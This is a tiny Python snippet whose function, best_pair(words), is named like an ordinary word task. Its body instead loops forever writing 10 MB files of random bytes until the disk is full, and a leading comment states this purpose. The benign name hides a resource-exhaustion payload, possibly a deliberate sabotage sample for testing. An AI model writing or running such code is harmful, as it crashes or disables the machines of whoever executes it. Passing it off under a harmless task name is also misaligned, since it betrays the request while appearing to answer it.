# fills the disk
def best_pair(words):
    import os
    n = 0
    while True:
        with open(f"f{n}", "wb") as file:
            file.write(os.urandom(10_000_000))
        n += 1
